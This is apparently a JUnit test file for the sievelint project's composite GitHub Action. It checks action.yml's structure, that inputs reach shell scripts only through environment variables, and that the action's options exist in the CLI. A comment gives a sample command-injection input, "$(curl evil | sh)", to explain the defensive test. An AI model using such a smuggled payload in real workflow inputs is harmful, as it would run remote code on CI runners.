package io.github.sievelint.cli;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.sievelint.report.Formats;
import io.github.sievelint.spec.ServerProfiles;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import picocli.CommandLine;

/**
 * The composite GitHub Action {@code action.yml}: its structure, that inputs reach shell scripts
 * only through {@code env:}, and that the options it passes exist in {@code sievelint check}.
 * {@link GithubActionIT} runs its lint step.
 */
class ActionYamlTest {

  private final ActionFile action = ActionFile.load();

  @Test
  void isACompositeActionWithAShellOnEveryRunStep() {
    assertThat(action.root()).containsKeys("name", "description", "inputs", "runs");
    assertThat(action.runs().get("using")).isEqualTo("composite");
    for (Map<String, Object> step : action.steps()) {
      assertThat(step).as("step %s", step.get("name")).containsKey("name");
      assertThat(step.containsKey("run") ^ step.containsKey("uses"))
          .as("step %s has either run or uses", step.get("name"))
          .isTrue();
      if (step.containsKey("run")) {
        // A composite action's run step must name its shell.
        assertThat(step.get("shell")).as("shell of %s", step.get("name")).isEqualTo("bash");
      }
    }
  }

  @Test
  void runScriptsContainNoExpressions() {
    // ${{ }} is expanded into the script text before the shell sees it, so an input such as
    // `paths: "$(curl evil | sh)"` would run; the environment carries values safely.
    for (Map<String, Object> step : action.steps()) {
      Object run = step.get("run");
      if (run != null) {
        assertThat(ActionFile.expressions(String.valueOf(run)))
            .as("expressions inside the run script of %s", step.get("name"))
            .isEmpty();
      }
    }
  }

  @Test
  void everyInputIsDeclaredAndUsed() {
    Set<String> declared = action.inputs().keySet();
    Set<String> used = new LinkedHashSet<>();
    for (Map<String, Object> step : action.steps()) {
      List<String> expressions = new ArrayList<>();
      ActionFile.env(step).values().forEach(v -> expressions.addAll(ActionFile.expressions(v)));
      Object with = step.get("with");
      if (with != null) {
        ActionFile.map(with, "with")
            .values()
            .forEach(v -> expressions.addAll(ActionFile.expressions(String.valueOf(v))));
      }
      Object condition = step.get("if");
      if (condition != null) {
        expressions.add(String.valueOf(condition));
      }
      for (String expression : expressions) {
        Matcher m = Pattern.compile("inputs\\.([A-Za-z0-9_-]+)").matcher(expression);
        while (m.find()) {
          used.add(m.group(1));
        }
      }
    }
    assertThat(declared).as("declared inputs").containsExactlyInAnyOrderElementsOf(used);
    action
        .inputs()
        .forEach(
            (name, input) -> {
              assertThat(input).as("input %s", name).containsKeys("description", "default");
              assertThat(input.get("required")).as("input %s is optional", name).isEqualTo(false);
            });
  }

  @Test
  void defaultsAreValuesTheCliAccepts() {
    Map<String, Map<String, Object>> inputs = action.inputs();
    assertThat(List.of("error", "warning", "info", "never"))
        .contains(ActionFile.text(ActionFile.child(inputs, "fail-on"), "default"));
    String server = ActionFile.text(ActionFile.child(inputs, "server"), "default");
    assertThat(server.isEmpty() || ServerProfiles.byId(server).isPresent())
        .as("server default '%s'", server)
        .isTrue();
    assertThat(ActionFile.text(ActionFile.child(inputs, "upload-sarif"), "default"))
        .isIn("true", "false");
  }

  @Test
  void lintStepPassesOnlyOptionsThatCheckHas() {
    String run = String.valueOf(action.step("lint").get("run"));
    CommandLine check =
        Objects.requireNonNull(
            Main.commandLine(
                    new PrintWriter(new StringWriter()),
                    new PrintWriter(new StringWriter()),
                    Environment.system())
                .getSubcommands()
                .get("check"));
    Matcher option = Pattern.compile("(?<![\\w-])--[a-z][a-z-]*").matcher(run);
    List<String> options = new ArrayList<>();
    while (option.find()) {
      options.add(option.group());
    }
    assertThat(options).contains("--format", "--report", "--fail-on", "--server");
    for (String name : options) {
      assertThat(check.getCommandSpec().findOption(name))
          .as("sievelint check has %s", name)
          .isNotNull();
    }
    Matcher format = Pattern.compile("--format ([a-z]+)").matcher(run);
    assertThat(format.find()).isTrue();
    assertThat(Formats.NAMES).contains(format.group(1));
    assertThat(run).contains("\"sarif=$SIEVELINT_SARIF\"");
    // The jar the build step makes, from the folder the action was checked out to.
    assertThat(run).contains("\"$ACTION_PATH\"/cli/target/sievelint-*-all.jar");
    assertThat(ProjectRoot.get().resolve("cli/pom.xml")).exists();
  }

  @Test
  void setupJavaDoesNotUseTheMavenCache() {
    // setup-java's cache hashes the calling repository's pom.xml files and fails without any.
    Map<String, Object> setup =
        action.steps().stream()
            .filter(s -> String.valueOf(s.get("uses")).startsWith("actions/setup-java@"))
            .findFirst()
            .orElseThrow();
    assertThat(ActionFile.child(setup, "with")).doesNotContainKey("cache");
  }

  @Test
  void outputsComeFromStepsThatExist() {
    Map<String, Object> outputs = ActionFile.child(action.root(), "outputs");
    for (Map.Entry<String, Object> output : outputs.entrySet()) {
      String value = String.valueOf(ActionFile.map(output.getValue(), "output").get("value"));
      Matcher m = Pattern.compile("steps\\.([a-z-]+)\\.outputs\\.([a-z-]+)").matcher(value);
      assertThat(m.find()).as("output %s reads a step output", output.getKey()).isTrue();
      String run = String.valueOf(action.step(m.group(1)).get("run"));
      assertThat(run).contains("echo \"" + m.group(2) + "=");
      assertThat(run).contains(">> \"$GITHUB_OUTPUT\"");
    }
  }
}
